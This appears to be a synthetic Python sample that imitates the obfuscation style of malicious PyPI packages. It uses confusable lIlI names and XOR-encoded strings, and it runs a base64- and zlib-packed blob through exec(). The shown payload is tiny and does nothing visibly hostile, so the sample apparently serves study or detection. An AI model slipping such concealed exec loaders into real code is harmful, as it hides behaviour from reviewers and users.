# Imitates pyobfuscate/Hyperion-style output seen in PyPI stealers: confusable lIlI names that build and exec code.
import zlib as lIlIlIlI
import base64 as IlIlIlIl


def llIIllII(IIllIIll):
    return "".join(chr(ord(lIIlIIlI) ^ 7) for lIIlIIlI in IIllIIll)


IllIlllI = llIIllII("nhwuh)wbhjb")
lllIIIll = [llIIllII(x) for x in ("jkjb", "by``")]
IlllIIIl = IlIlIlIl.b64decode("eJwrKMrMK9FQKs8vyklRAgAb2gRa")


def IlIIlIIl():
    exec(lIlIlIlI.decompress(IlllIIIl), {"IllIlllI": IllIlllI, "lllIIIll": lllIIIll})


IlIIlIIl()
